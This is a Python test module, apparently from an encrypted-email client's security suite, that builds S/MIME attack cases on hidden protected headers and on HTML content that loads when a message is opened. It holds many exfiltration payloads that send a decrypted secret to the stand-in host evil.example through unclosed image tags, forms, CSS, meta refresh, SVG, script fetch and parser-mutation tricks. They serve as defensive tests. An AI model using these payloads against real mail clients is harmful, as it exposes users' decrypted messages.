"""Attacks that begin when a ciphertext is opened: hidden header fields, and content that loads."""

from __future__ import annotations

from collections.abc import Iterator

from tests.attacks.cast import EVE, SECRET, Cast, html, multipart, p7m

OBSCURED = b"Subject: [...]\r\n"
_URL = b"http://evil.example/"
_IMAGE = b"<img src='" + _URL + b"s'>"


def hidden(cast: Cast) -> Iterator[tuple[str, bytes, bytes]]:
    """A Subject that only its readers should see; Eve wants it, or another, outside (RFC 9788)."""
    bob, eve = f"From: {cast.bob}\r\n".encode(), f"From: {EVE}\r\n".encode()
    own = _announced(cast.bob)
    gcm = cast.ciphertext(own, gcm=True)
    yield "sent-on-as-bob", p7m(gcm, b"authEnveloped-data"), bob + OBSCURED
    yield "sent-on-as-eve", p7m(gcm, b"authEnveloped-data"), eve + OBSCURED
    yield "signed-by-eve", cast.clear_signed(p7m(gcm, b"authEnveloped-data"), "eve"), eve + OBSCURED
    yield "unsigned-cbc", cast.encrypted(own), bob + OBSCURED
    yield "unsigned-cbc-without-subject", cast.encrypted(own), bob
    yield "signed-by-a-stranger", cast.encrypted(cast.clear_signed(own, "stranger")), bob + OBSCURED
    yield "signed-by-eve-inside", cast.encrypted(cast.clear_signed(own, "eve")), bob + OBSCURED
    yield "signature-around-cbc", cast.clear_signed(cast.encrypted(own), "eve"), eve + OBSCURED
    yield "in-a-part", cast.encrypted(multipart(b"mixed", own)), bob + OBSCURED
    draft = own.replace(b'hp="cipher"', b'protected-headers="v1"')
    yield "older-form", cast.encrypted(draft), bob + OBSCURED
    wrapped = b"Content-Type: message/rfc822; forwarded=no\r\n\r\n" + own
    yield "wrapped", cast.encrypted(wrapped), bob + OBSCURED
    for name, author in {
        "inner-from-eve": EVE,
        "inner-from-both": f"{cast.bob}, {EVE}",
        "inner-from-empty": "",
        "inner-from-group": f"Bob: {cast.bob};",
    }.items():
        yield f"{name}-signed", cast.clear_signed(_announced(author)), bob + OBSCURED
        sealed = cast.ciphertext(cast.opaque_signed(_announced(author)), gcm=True)
        yield name, p7m(sealed, b"authEnveloped-data"), bob + OBSCURED


def _announced(author: str) -> bytes:
    inside = f"From: {author}\r\nSubject: ".encode() + SECRET + b"\r\n"
    outside = b"HP-Outer: From: " + author.encode() + b"\r\nHP-Outer: " + OBSCURED
    return inside + outside + b'Content-Type: text/plain; hp="cipher"\r\n\r\ntext\r\n'


def armed(cast: Cast) -> Iterator[tuple[str, bytes]]:
    """What Eve made around a ciphertext under CBC; nobody signed it, showing it must be safe."""
    for name, markup in {
        "image": _IMAGE,
        "unclosed": b"<img src='" + _URL + SECRET,
        "link": b"<a href='" + _URL + SECRET + b"'>read on</a>",
        "mail-link": f"<a href='mailto:{EVE}?body=".encode() + SECRET + b"'>write</a>",
        "style": b"<style>@import '" + _URL + b"';</style><p>x</p>",
        "style-attribute": b"<p style='background:url(" + _URL + b")'>x</p>",
        "background": b"<table background='" + _URL + b"'><tr><td>x</table>",
        "form": b"<form action='" + _URL + b"'><textarea name=x>" + SECRET,
        "base": b"<base href='" + _URL + b"'><img src=s>",
        "refresh": b"<meta http-equiv=refresh content='0;url=" + _URL + b"'>",
        "vector": b"<svg><image href='" + _URL + b"'/></svg>",
        "mutation": b"<math><mtext><table><mglyph><style><!--</style>" + _IMAGE + b"-->",
        "title-mutation": b"<noscript><p title='</noscript>" + _IMAGE + b"'>",
        "character-set": b"<p title='\x1b$B\x27'>" + _IMAGE,
        "script": b"<script>fetch('" + _URL + b"')</script>",
        "set": b"<img srcset='" + _URL + b" 2x'>",
    }.items():
        yield name, cast.encrypted(html(markup))
        yield f"{name}-in-parts", cast.encrypted(multipart(b"related", html(b"<p>x"), html(markup)))
    for name, kind in {
        "named": b'text/plain; name="a.html"',
        "xhtml": b"application/xhtml+xml",
        "vector-file": b"image/svg+xml",
        "external": b'message/external-body; access-type=URL; URL="' + _URL + b'"',
        "calendar": b"text/calendar; method=REQUEST",
        "archive": b"application/x-mimearchive",
        "two-types": b"text/plain, text/html",
        "utf-7": b"text/html; charset=utf-7",
    }.items():
        part = b"Content-Type: " + kind + b"\r\n\r\n" + _IMAGE + b"\r\n"
        yield name, cast.encrypted(part)
        yield (
            f"{name}-attached-message",
            cast.encrypted(b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + part),
        )
    yield "base-field", cast.encrypted(b"Content-Base: " + _URL + b"\r\n" + html(b"<img src=s>"))
    beside = b"Content-Type: text/html\r\n\r\n" + _IMAGE + b"\r\n"
    yield (
        "longer-delimiter",
        cast.encrypted(multipart(b"mixed", b"\r\ntext\r\n--frameX\r\n" + beside)),
    )
    yield (
        "preamble",
        cast.encrypted(
            multipart(b"mixed", b"\r\ntext").replace(b"\r\n\r\n", b"\r\n\r\n" + _IMAGE + b"\r\n", 1)
        ),
    )
    yield "digest", cast.encrypted(multipart(b"digest", b"\r\n" + beside))
    yield "alternative", cast.encrypted(multipart(b"alternative", beside, b"\r\ntext"))
